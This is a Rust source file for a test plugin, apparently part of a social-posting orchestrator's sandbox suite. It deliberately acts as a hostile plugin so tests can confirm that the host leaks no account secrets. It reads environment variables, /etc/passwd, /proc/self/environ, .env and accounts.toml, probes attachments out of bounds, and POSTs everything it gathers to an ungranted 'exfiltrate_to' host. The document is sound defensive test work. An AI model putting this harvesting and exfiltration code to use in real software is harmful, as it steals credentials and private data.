//! A poster for tests that tries every channel it has to learn or leak an
//! account's secret, and reports everything it saw, so that a test can show
//! it saw nothing secret.
//!
//! One attempt: it asks the sandbox's echo endpoint
//! (`{base-url}/_sandbox/echo/{secret}?q={secret}`, body `{secret}`) what
//! its request looked like on arrival, once as the host sends it and once
//! with its own `Authorization` (which the host must refuse); it sends what
//! it has seen to `exfiltrate_to`, a host it was not granted; it reads the
//! environment, its arguments and files, and reads its job's attachments
//! past their ends and others that are not its. Every finding is logged at info
//! level as it comes, and the attempt fails with all of them in the
//! message (error code `hostile`), unescaped: coping is the host's job.
//!
//! Its `describe-auth` claims both a Bluesky-style session and OAuth 2, so a
//! test can give it an account of any scheme; the code is the same for all.

wit_bindgen::generate!({
    world: "poster",
    path: "../../wit",
    generate_all,
});

#[allow(
    dead_code,
    reason = "shared with the posters, which use the rest of it"
)]
#[path = "../../shared/http.rs"]
mod http;

use exports::orchestrator::plugin::auth::{self, AuthSupport, Oauth2Refresh, SessionLogin};
use exports::orchestrator::plugin::limits::{self, RateBudget};
use exports::orchestrator::plugin::{metadata, post};
use orchestrator::plugin::log::{Level, log};
use orchestrator::plugin::types::{JobContext, PluginInfo, PostFailure, Receipt};
use std::io::Read;

/// The failure's message, at most: the contract's hosts cut longer ones.
const MESSAGE_BYTES: usize = 4000;
/// Each response, file or listing read, at most.
const READ_BYTES: usize = 16 * 1024;
/// Entries listed per directory, at most.
const LIST_ENTRIES: usize = 50;
/// Paths tried: the root and working directory, and where secrets live on
/// an ordinary machine.
const PATHS: [&str; 7] = [
    "/",
    ".",
    "/etc/passwd",
    "/proc/self/environ",
    "/proc/self/cmdline",
    ".env",
    "accounts.toml",
];

struct HostilePoster;

impl metadata::Guest for HostilePoster {
    fn describe() -> PluginInfo {
        PluginInfo {
            name: "hostile-poster".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            description: "Test plugin: tries to learn or leak a secret, reports what it saw".into(),
        }
    }
}

impl auth::Guest for HostilePoster {
    fn describe_auth() -> AuthSupport {
        AuthSupport {
            session: Some(SessionLogin {
                login_path: "/xrpc/com.atproto.server.createSession".into(),
                identifier_field: "identifier".into(),
                password_field: "password".into(),
                refresh_path: "/xrpc/com.atproto.server.refreshSession".into(),
                access_token_field: "accessJwt".into(),
                refresh_token_field: "refreshJwt".into(),
            }),
            oauth2: Some(Oauth2Refresh {
                token_path: "/2/oauth2/token".into(),
            }),
            token_lifetime_seconds: 7200,
            expired_codes: vec!["ExpiredToken".into()],
        }
    }
}

/// Everything seen so far, each finding logged as it is noted.
#[derive(Default)]
struct Seen {
    findings: Vec<String>,
}

impl Seen {
    fn note(&mut self, finding: String) {
        log(Level::Info, &finding);
        self.findings.push(finding);
    }

    fn all(&self) -> String {
        self.findings.join("\n")
    }

    /// Sends a request and notes what came back, or why nothing did: a
    /// refusal is a finding too, and the attempt goes on.
    fn request(&mut self, what: &str, url: &str, headers: &[(&str, &str)], body: &[u8]) {
        let request = http::Request {
            method: http::Method::Post,
            url,
            headers,
            body,
        };
        match http::send(&request, READ_BYTES) {
            Ok(response) => {
                let headers: Vec<String> = response
                    .headers
                    .iter()
                    .map(|(n, v)| format!("{n}: {}", String::from_utf8_lossy(v)))
                    .collect();
                self.note(format!(
                    "{what}: {url} answered {}; headers [{}]; body {}",
                    response.status,
                    headers.join("; "),
                    String::from_utf8_lossy(&response.body)
                ));
            }
            Err(failure) => self.note(format!(
                "{what}: {url} failed: {} (transport {:?})",
                failure.message, failure.transport_error
            )),
        }
    }

    fn environment(&mut self) {
        // `vars_os`: `vars` panics on a name or value that is not UTF-8.
        let vars: Vec<String> = std::env::vars_os()
            .map(|(k, v)| format!("{}={}", k.to_string_lossy(), v.to_string_lossy()))
            .collect();
        self.note(format!("environment: [{}]", vars.join("; ")));
        let args: Vec<String> = std::env::args_os()
            .map(|a| a.to_string_lossy().into_owned())
            .collect();
        self.note(format!("arguments: [{}]", args.join("; ")));
        self.note(format!("working directory: {:?}", std::env::current_dir()));
    }

    fn files(&mut self) {
        for path in PATHS {
            let found = match std::fs::read_dir(path) {
                Ok(entries) => {
                    let names: Vec<String> = entries
                        .take(LIST_ENTRIES)
                        .map(|e| match e {
                            Ok(e) => e.file_name().to_string_lossy().into_owned(),
                            Err(e) => format!("<{e}>"),
                        })
                        .collect();
                    format!("lists [{}]", names.join(", "))
                }
                Err(_) => match read_file(path) {
                    Ok(text) => format!("reads {text}"),
                    Err(e) => format!("cannot be read: {e}"),
                },
            };
            self.note(format!("file {path} {found}"));
        }
    }
}

impl Seen {
    /// Its job's attachments as the host lists them, and reads of them:
    /// as much as it may ask for at once, from past the end, and of
    /// attachments the job does not have.
    fn media(&mut self) {
        use crate::orchestrator::plugin::media;
        let files = media::attachments();
        let listed: Vec<String> = files
            .iter()
            .map(|a| {
                format!(
                    "{} {} {} {} bytes {:?}",
                    a.index, a.name, a.media_type, a.size, a.description
                )
            })
            .collect();
        self.note(format!("media: [{}]", listed.join("; ")));
        let beyond = files.len() as u32;
        for (index, offset, length) in [
            (0, 0, u32::MAX),
            (0, u64::MAX, u32::MAX),
            (beyond, 0, 1),
            (u32::MAX, 0, 1),
        ] {
            let got = match media::read(index, offset, length) {
                Ok(bytes) => format!("{} bytes", bytes.len()),
                Err(e) => format!("{e:?}"),
            };
            self.note(format!("media read({index}, {offset}, {length}): {got}"));
        }
    }
}

fn read_file(path: &str) -> std::io::Result<String> {
    let mut bytes = Vec::new();
    std::fs::File::open(path)?
        .take(READ_BYTES as u64)
        .read_to_end(&mut bytes)?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

impl limits::Guest for HostilePoster {
    fn rate_budgets() -> Vec<RateBudget> {
        Vec::new()
    }
}

impl post::Guest for HostilePoster {
    fn post(job: JobContext) -> Result<Receipt, PostFailure> {
        let mut seen = Seen::default();
        let settings: Vec<String> = job
            .account
            .settings
            .iter()
            .map(|(k, v)| format!("{k}={v}"))
            .collect();
        let base = job.account.base_url.trim_end_matches('/');
        let echo = format!("{base}/_sandbox/echo/{{secret}}?q={{secret}}");
        // What the host does to a request: adds the credential, or puts the
        // secret in the path. The echo shows what arrived; the host must
        // keep the secret out of what this plugin reads back.
        seen.request(
            "echo",
            &echo,
            &[("content-type", "text/plain")],
            b"{secret}",
        );
        // Its own credential: the host refuses to send the header at all.
        seen.request(
            "own authorization",
            &echo,
            &[
                ("content-type", "text/plain"),
                ("authorization", "Bearer hostile-poster"),
            ],
            b"{secret}",
        );
        seen.note(format!(
            "job {} attempt {} key {} payload {}; account {} at {} settings [{}]",
            job.job_id,
            job.attempt,
            job.idempotency_key,
            job.payload,
            job.account.name,
            job.account.base_url,
            settings.join("; ")
        ));
        seen.environment();
        seen.files();
        seen.media();
        // Everything seen so far, to a host nobody granted.
        if let Some((_, url)) = job
            .account
            .settings
            .iter()
            .find(|(k, _)| k == "exfiltrate_to")
        {
            let loot = http::bounded(&seen.all(), READ_BYTES);
            seen.request(
                "exfiltrate",
                url,
                &[("content-type", "text/plain")],
                loot.as_bytes(),
            );
        }
        Err(PostFailure {
            message: http::bounded(&seen.all(), MESSAGE_BYTES),
            http_status: None,
            error_code: Some("hostile".into()),
            retry_after_ms: None,
            rate_limit_reset: None,
            transport_error: None,
        })
    }
}

export!(HostilePoster);
